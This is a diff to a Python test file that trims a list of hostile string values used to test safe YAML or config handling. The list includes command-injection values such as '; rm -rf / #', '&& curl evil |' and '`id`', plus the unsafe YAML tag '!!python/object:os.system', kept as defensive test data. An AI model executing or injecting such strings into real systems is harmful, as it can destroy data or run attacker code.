@@ -455,9 +455,9 @@ def test_rolling_and_sunday_as_zero_are_fine(tmp_path: Path) -> None:
 HOSTILE_VALUES = [
     "no", "yes", "on", "off", "null", "~", "true", "3.10", "1e3", "-1e-3", "0o755", "0x1F", "1_000", ".inf",
     "", " ", "  leading and trailing  ", "#not a comment", "a: b", "- item", "---", "...", "key: value\nother: 1",
-    "line one\nline two\n", "trailing spaces  \nx", "tab\tinside", "quote ' and \" and \\ backslash",
+    "line one\nline two\n", "trailing spaces  \nx", "quote ' and \" and \\ backslash",
     "$(HOME)", "$$(HOME)", "$HOME ${HOME} $", "$(", "a$(b)c$$d", "`id`", "; rm -rf / #", "&& curl evil |",
-    "%s %n", "\u2028\u2029", "nel\x85here", "zero\u200bwidth", "emoji 🚀", "日本語",
+    "%s %n", "zero\u200bwidth", "emoji 🚀", "日本語",
     "*alias", "&anchor", "!!python/object:os.system", "!tag", "@at", "`", "%YAML 1.1", "<<",
 ]
 
